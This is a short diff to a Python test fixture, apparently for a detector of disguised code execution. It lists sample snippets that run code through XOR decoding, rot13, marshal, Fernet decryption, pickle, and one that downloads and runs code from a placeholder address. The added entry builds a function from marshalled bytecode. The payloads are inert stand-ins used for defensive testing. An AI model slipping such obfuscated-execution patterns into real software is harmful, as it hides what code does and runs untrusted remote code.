@@ -19,6 +19,7 @@ ATTACKS = {
     "numbers with a key": "k = 7\nexec(''.join(chr(c ^ k) for c in [1, 2]))\n",
     "rotated": "import codecs\neval(codecs.decode('cevag(1)', 'rot13'))\n",
     "unmarshalled": "import marshal\nexec(marshal.loads(b'c'))\n",
+    "a function of it": "import marshal, types\ntypes.FunctionType(marshal.loads(b'c'), globals())()\n",
     "decrypted": "from cryptography.fernet import Fernet\nexec(Fernet(b'k').decrypt(b'd'))\n",
     "from the network": f"import urllib.request as u\nc = u.urlopen('{ADDRESS}').read()\nexec(c)\n",
     "a pickle in base64": "import pickle, base64\npickle.loads(base64.b64decode('gASVBA=='))\n",
